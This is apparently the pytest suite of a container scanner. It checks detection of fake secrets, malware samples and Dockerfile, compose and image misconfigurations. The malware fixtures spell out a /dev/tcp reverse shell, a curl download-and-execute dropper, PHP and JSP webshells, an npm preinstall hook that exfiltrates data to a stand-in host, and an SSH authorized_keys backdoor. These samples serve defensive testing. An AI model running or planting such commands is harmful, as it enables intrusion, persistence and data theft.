"""Secrets, harmful files and misconfiguration: each rule with what it must find and a twin that must stay quiet."""

from __future__ import annotations

import base64
import random
import string
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest

from phalanx.artifacts.malware import MalwareInspector
from phalanx.artifacts.misconfiguration import (
    check_compose,
    check_dockerfile,
    check_image_config,
    check_os,
    inspect_configuration,
)
from phalanx.artifacts.model import Inventory, OsRelease
from phalanx.artifacts.secrets import SECRET_RULES, find_secrets, inspect_secrets, mask
from phalanx.artifacts.sources.entry import Entry
from phalanx.errors import UsageError

CHOOSER = random.Random("phalanx secrets")  # the secrets below are made here and belong to nobody
ALNUM = string.ascii_letters + string.digits


def text(size: int, alphabet: str = ALNUM) -> str:
    return "".join(CHOOSER.choice(alphabet) for _ in range(size))


def checked_token(prefix: str) -> str:
    body = text(30)
    value, digits, made = (
        zlib.crc32(body.encode()),
        "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz",
        "",
    )
    while value:
        value, rest = divmod(value, 62)
        made = digits[rest] + made
    return prefix + body + made.rjust(6, "0")


def encoded(value: bytes) -> str:
    return base64.urlsafe_b64encode(value).decode().rstrip("=")


BODY = "\n".join(text(64, ALNUM + "+/") for _ in range(5))
SECRETS: dict[str, str] = {
    "secret-aws-access-key": "key = AKIA" + text(16, string.ascii_uppercase + "234567"),
    "secret-aws-secret-key": "aws_secret_access_key = " + text(40, ALNUM + "/+"),
    "secret-github-token": "t: " + checked_token("ghp_"),
    "secret-github-fine-grained": f"github_pat_{text(22)}_{text(59)}",
    "secret-gitlab-token": "glpat-" + text(20),
    "secret-npm-token": "//registry/:_authToken=" + checked_token("npm_"),
    "secret-pypi-token": "pypi-AgE" + text(60),
    "secret-slack-token": "xoxb-" + text(30, string.digits + string.ascii_letters),
    "secret-slack-webhook": f"https://hooks.slack.com/services/T{text(9, string.ascii_uppercase)}/B{text(9, string.ascii_uppercase)}/{text(24)}",
    "secret-stripe-key": "sk_live_" + text(24),
    "secret-google-api-key": "AIza" + text(35),
    "secret-gcp-service-account": '{"type": "service_account", "private_key": "-----BEGIN PRIVATE KEY-----\\n'
    + text(400)
    + '\\n-----END PRIVATE KEY-----\\n"}',
    "secret-sendgrid-key": f"SG.{text(22)}.{text(43)}",
    "secret-twilio-key": "twilio SK" + text(32, "0123456789abcdef"),
    "secret-digitalocean-token": "dop_v1_" + text(64, "0123456789abcdef"),
    "secret-hashicorp-vault": "hvs." + text(30),
    "secret-openai-key": f"sk-{text(20)}T3BlbkFJ{text(20)}",
    "secret-anthropic-key": f"sk-ant-api03-{text(90)}",
    "secret-huggingface-token": "hf_" + text(34, string.ascii_letters),
    "secret-aliyun-key": "LTAI" + text(20),
    "secret-tencent-key": "AKID" + text(32),
    "secret-azure-storage-key": f"AccountKey={text(86, ALNUM + '+/')}==;",
    "secret-private-key": f"-----BEGIN RSA PRIVATE KEY-----\n{BODY}\n-----END RSA PRIVATE KEY-----",
    "secret-url-password": "postgres://app:Kx9vQ2mPz7@db.internal/app",
    "secret-docker-auth": '{"auths":{"r.io":{"auth": "' + base64.b64encode(b"robot:Kx9vQ2mPz7").decode() + '"}}}',
    "secret-assignment": 'db_password = "' + "Kx9vQ2mPz7Lw" + '"',
}
JWT_HEAD, JWT_BODY = b'{"alg":"HS256","typ":"JWT"}', b'{"sub":"1","name":"someone"}'
SECRETS["secret-jwt"] = f"{encoded(JWT_HEAD)}.{encoded(JWT_BODY)}.{text(43)}"
QUIET = [
    "aws_access_key_id = AKIAIOSFODNN7EXAMPLE",
    "ghp_" + text(36),  # its checksum is wrong
    "password = 'changeme123'",
    'password = "${DB_PASSWORD}"',
    'password: "{{ vault.password }}"',
    "postgres://user:password@localhost/db",
    "https://user:${TOKEN}@example.org/x",
    "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----",
    "sha256:" + text(64, "0123456789abcdef"),
    '"integrity": "sha512-' + text(86, ALNUM + "+/") + '=="',
    "eyJhbGciOi.notajwt",
    'api_key = "your_api_key_here"',
    'secret = os.environ["SECRET"]',
    'token_url = "https://login.internal/oauth2/token"',
]


@pytest.mark.parametrize("rule", sorted(SECRETS))
def test_the_secret_is_found_and_only_its_mask_is_told(rule: str) -> None:
    data = f"# line one\n{SECRETS[rule]}\n".encode()
    found = {issue.rule: issue for issue in find_secrets("f", data)}
    assert rule in found
    issue = found[rule]
    assert issue.line == 2
    assert issue.text.endswith("characters)")
    assert issue.text.split("…")[0] in SECRETS[rule]
    assert len(issue.text.split("…")[0]) <= 4


def test_every_rule_has_an_example() -> None:
    assert {rule.id for rule in SECRET_RULES} == set(SECRETS)


@pytest.mark.parametrize("line", QUIET)
def test_examples_references_and_hashes_are_no_secrets(line: str) -> None:
    assert list(find_secrets("f", line.encode())) == []


def test_a_mask_shows_at_most_a_fifth() -> None:
    assert mask(b"abcdefghij") == "ab… (10 characters)"
    assert mask(b"abcd") == "… (4 characters)"


def test_one_secret_in_two_places_is_told_once_and_two_are_told_twice() -> None:
    one, two = checked_token("ghp_"), checked_token("ghp_")
    found = list(find_secrets("f", f"{one}\n{one}\n{two}\n".encode()))
    assert [issue.line for issue in found] == [1, 3]
    assert len({issue.digest for issue in found}) == 2


def test_binary_files_and_what_packages_ship_are_left_out(tree: Callable[..., Inventory]) -> None:
    token = checked_token("ghp_")
    found = tree(
        {
            "app/.env": f"TOKEN={token}\n",
            "usr/share/doc/x": f"{token} doc\n",
            "app/node_modules/x/a.js": f"{token} js\n",
            "bin.dat": b"\0\0" + token.encode(),
        },
        inspectors=(inspect_secrets,),
    )
    assert [issue.path for issue in found.issues] == ["app/.env"]


MALWARE: dict[str, tuple[str, bytes]] = {
    "malware-cryptominer": ("run.sh", b"#!/bin/sh\n./x -o stratum+tcp://pool.example.org:3333 --donate-level 1\n"),
    "malware-webshell-php": ("a.php", b"<?php @eval(base64_decode($_POST['x'])); ?>"),
    "malware-webshell-jsp": ("a.jsp", b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
    "malware-reverse-shell": ("x.sh", b"#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"),
    "malware-dropper": ("x.sh", b"#!/bin/sh\ncurl -s http://192.0.2.1/a -o /tmp/a; chmod +x /tmp/a; /tmp/a\n"),
    "malware-install-script-exfiltration": (
        "package.json",
        b'{"name":"x","scripts":{"preinstall":"curl -X POST https://x.example/`whoami`"}}',
    ),
    "malware-ld-preload-rootkit": (
        "lib.so",
        b"\x7fELF" + b"\0" * 40 + b"dlsym\0readdir64\0/etc/ld.so.preload\0/proc/self/fd/%d\0",
    ),
    "malware-ssh-backdoor-key": (
        "x.sh",
        b"echo ssh-rsa AAAA" + b"B3NzaC1yc2E" * 8 + b" x >> /root/.ssh/authorized_keys\n",
    ),
}
BENIGN: list[tuple[str, bytes]] = [
    ("nagios.sh", b"#!/bin/bash\nexec 3<>/dev/tcp/$HOST\necho ok\n"),
    ("install.sh", b"#!/bin/sh\ncurl -fsSL https://get.example.org/install | sh\ncurl -o /usr/local/bin/x https://x\nchmod +x /usr/local/bin/x\n"),
    ("form.php", b"<?php echo htmlspecialchars($_POST['name']); system('ls'); ?>"),
    ("view.jsp", b'<% String n = request.getParameter("n"); out.print(n); %>'),
    ("package.json", b'{"name":"x","scripts":{"postinstall":"node scripts/build.js","test":"curl http://localhost"}}'),
    ("doc.md.sh", b"# RandomX is a proof of work algorithm; see the stratum protocol\n# nothing else here is of interest\n"),
    ("ssh-copy.sh", b"#!/bin/sh\ncat $HOME/.ssh/id_rsa.pub >> ~/.ssh/authorized_keys\n"),
    ("libc.so", b"\x7fELF" + b"\0" * 40 + b"dlsym\0readdir64\0opendir\0/etc/passwd\0"),
    ("server.py", b"import socket, subprocess, os\ns = socket.socket()\ns.bind(('', 80))\nsubprocess.run(['ls'])\n"),
]  # fmt: skip


def run(inspector: MalwareInspector, name: str, data: bytes) -> list[str]:
    entry = Entry(name, len(data), 0o755, lambda limit: data[:limit])
    return [issue.rule for issue in inspector(entry, lambda: data)]


@pytest.fixture(scope="module")
def malware() -> MalwareInspector:
    return MalwareInspector()


@pytest.mark.parametrize("rule", sorted(MALWARE))
def test_the_harmful_file_is_found(malware: MalwareInspector, rule: str) -> None:
    assert run(malware, *MALWARE[rule]) == [rule]


@pytest.mark.parametrize(("name", "data"), BENIGN, ids=[name for name, _ in BENIGN])
def test_its_benign_twin_stays_quiet(malware: MalwareInspector, name: str, data: bytes) -> None:
    assert run(malware, name, data) == []


def test_own_rules_and_hashes_count_and_a_broken_rule_is_named(tmp_path: Path) -> None:
    (tmp_path / "own.yar").write_text('rule mine { strings: $a = "very own marker" condition: $a }')
    digest = "18bd901e0c05b4e0fb9ec5e5d3b0f2f6f1c0b9e44a1a96e0e11a1b7a2b4a9d3c"
    data = b"#!/bin/sh\n# very own marker\n"
    assert run(MalwareInspector(extra=(tmp_path / "own.yar",), hashes=frozenset({digest})), "x.sh", data) == [
        "malware-mine"
    ]
    import hashlib

    assert run(MalwareInspector(hashes=frozenset({hashlib.sha256(data).hexdigest()})), "x.sh", data) == [
        "malware-known-hash"
    ]
    (tmp_path / "bad.yar").write_text("rule {")
    with pytest.raises(UsageError, match=r"bad\.yar"):
        MalwareInspector(extra=(tmp_path / "bad.yar",))


DOCKERFILES: dict[str, tuple[str, str]] = {
    "dockerfile-latest": (
        "FROM debian\nUSER 1000\n",
        "FROM debian:12@sha256:aa\nFROM debian:12\nFROM scratch AS x\nFROM x\nUSER 1000\n",
    ),
    "dockerfile-remote-add": (
        "FROM a:1\nADD https://x/y /\nUSER 1\n",
        "FROM a:1\nADD --checksum=sha256:aa https://x/y /\nADD y /\nUSER 1\n",
    ),
    "dockerfile-secret": (
        "FROM a:1\nENV DB_PASSWORD=hunter2\nUSER 1\n",
        "FROM a:1\nENV PASSWORD_FILE=/run/x TOKEN=$T\nARG TOKEN\nUSER 1\n",
    ),
    "dockerfile-pipe-to-shell": (
        "FROM a:1\nRUN curl -s https://x \\\n  | bash\nUSER 1\n",
        "FROM a:1\nRUN curl -o x https://x && sha256sum -c x.sum\nUSER 1\n",
    ),
    "dockerfile-chmod-777": ("FROM a:1\nRUN chmod -R 777 /app\nUSER 1\n", "FROM a:1\nRUN chmod 755 /app\nUSER 1\n"),
    "dockerfile-root-user": ("FROM a:1\nUSER app\nFROM b:1\nRUN x\n", "FROM a:1\nFROM b:1\nUSER 65532:65532\n"),
    "dockerfile-sudo": ("FROM a:1\nRUN sudo make\nUSER 1\n", "FROM a:1\nRUN apt-get install sudo\nUSER 1\n"),
}


@pytest.mark.parametrize("rule", sorted(DOCKERFILES))
def test_a_dockerfile_is_judged_and_its_good_twin_is_not(rule: str) -> None:
    bad, good = DOCKERFILES[rule]
    assert rule in {issue.rule for issue in check_dockerfile("Dockerfile", bad)}
    assert [issue.rule for issue in check_dockerfile("Dockerfile", good)] == []


def test_a_compose_file_that_opens_the_host_is_judged() -> None:
    bad = b"""services:
  a: {privileged: true, network_mode: host, pid: host, cap_add: [SYS_ADMIN], volumes: ["/var/run/docker.sock:/x"], environment: {DB_PASSWORD: hunter2}}
"""
    good = (
        b"services:\n  a: {image: x:1, volumes: [data:/data], environment: [DB_PASSWORD=$X, A=b], cap_add: [CHOWN]}\n"
    )
    rules = {issue.rule for issue in check_compose("compose.yaml", bad)}
    assert rules == {
        "compose-privileged",
        "compose-host-network",
        "compose-host-pid",
        "compose-capability",
        "compose-host-path",
        "compose-secret",
    }
    assert list(check_compose("compose.yaml", good)) == []
    assert list(check_compose("compose.yaml", b"[" * 100_000)) == []


def test_an_image_configuration_is_judged_without_showing_values() -> None:
    config = {
        "config": {"User": "0", "Env": ["API_KEY=abc123xyz", "PATH=/bin"], "ExposedPorts": {"22/tcp": {}}},
        "history": [
            {"created_by": "/bin/sh -c #(nop) ADD https://x/y in /"},
            {"created_by": f"RUN export T={checked_token('ghp_')}"},
            "odd",
        ],
    }
    found = list(check_image_config(config))
    assert {"image-root-user", "image-secret-in-env", "image-ssh-port", "image-remote-add", "secret-github-token"} <= {
        issue.rule for issue in found
    }
    assert not any("abc123xyz" in issue.text for issue in found)
    good = {
        "config": {"User": "65532", "Env": ["PATH=/bin", "TOKEN_FILE=/run/t"], "Healthcheck": {"Test": ["CMD", "x"]}},
        "history": [{"created_by": "COPY x /"}],
    }
    assert list(check_image_config(good)) == []


def test_an_old_base_is_told_and_a_supported_one_is_not() -> None:
    old, new = (
        OsRelease(id="debian", version_id="10", name="Debian 10"),
        OsRelease(id="debian", version_id="13", name="Debian 13"),
    )
    assert [issue.rule for issue in check_os(old, "2026-01-01")] == ["image-end-of-life"]
    assert list(check_os(new, "2026-01-01")) == []
    assert list(check_os(OsRelease(id="ubuntu", version_id="24.04", name="x"), "2026-01-01")) == []


@pytest.mark.parametrize(
    ("name", "mode", "rules"),
    [
        ("usr/bin/passwd", 0o4755, []),
        ("opt/tool", 0o4755, ["file-setuid"]),
        ("opt/tool", 0o757, ["file-world-writable"]),
        ("etc/crontab", 0o666, ["file-world-writable"]),
        ("var/data", 0o666, []),
    ],
)
def test_file_modes_are_judged(name: str, mode: int, rules: list[str]) -> None:
    assert [issue.rule for issue in inspect_configuration(Entry(name, 10, mode, lambda _: b""), lambda: b"")] == rules


def test_inspectors_see_images_as_well(tmp_path: Path, make: Mapping[str, object]) -> None:
    from phalanx.artifacts.inventory import image_inventory
    from phalanx.artifacts.sources.image import open_image

    layer = make.tar(
        {"app/.env": f"T={checked_token('ghp_')}\n", "x.sh": MALWARE["malware-reverse-shell"][1]}, modes={"x.sh": 0o755}
    )  # type: ignore[attr-defined]
    layout = make.oci(tmp_path, [layer])  # type: ignore[attr-defined]
    found = image_inventory(open_image(layout), target="x", inspectors=(inspect_secrets, MalwareInspector()))
    assert {(issue.kind, issue.path) for issue in found.issues} == {("secret", "app/.env"), ("malware", "x.sh")}
    assert all(issue.layer.startswith("sha256:") for issue in found.issues)
